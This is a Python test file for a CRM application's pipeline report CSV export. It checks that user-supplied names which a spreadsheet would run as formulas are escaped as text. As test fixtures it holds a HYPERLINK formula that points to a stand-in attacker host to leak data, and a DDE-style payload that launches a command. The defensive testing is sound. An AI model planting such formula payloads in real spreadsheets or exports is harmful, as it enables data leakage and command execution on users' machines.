"""The pipeline report's CSV writes people's text (stage names, owners' names) as text: a name that
a spreadsheet would run as a formula gets a leading `'`; the numbers Tandem computed stay numbers."""

from __future__ import annotations

import csv
import io

from tandem.accounts import services as accounts
from tandem.sales import services
from tests.conftest import login

HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?leak","Click me")'


def test_hostile_names_in_the_report_csv_are_text(member, manager, pipeline):
    accounts.update_profile(member, full_name=HOSTILE_OWNER, language="en", time_zone="UTC")
    stage = pipeline.stages.get(name="Lead")
    services.update_stage(stage, by=manager, data={"name": "@SUM(1+1)*cmd|' /C calc'!A0"})
    services.create_deal(by=member, pipeline=pipeline, title="Acme", data={"value": "1234.50"})
    lost = services.create_deal(by=manager, pipeline=pipeline, title="Globex", data={"value": "10"})
    services.lose(lost, by=manager, reason="Price")

    response = login(member).get(f"/pipelines/{pipeline.pk}/report/", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    funnel = [row for row in rows if row[0] == "funnel"]
    assert ["funnel", "'@SUM(1+1)*cmd|' /C calc'!A0", "EUR", "1", "1234.50", "123.45"] in funnel
    owners = {row[1]: row for row in rows if row[0] == "owner"}
    assert "'" + HOSTILE_OWNER in owners and HOSTILE_OWNER not in owners
    assert owners["'" + HOSTILE_OWNER][3:6] == ["1", "1234.50", "123.45"]  # numbers stay numbers
    assert ["outcomes", "", "", "", "", "", "0", "", "1", "0.00", ""] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
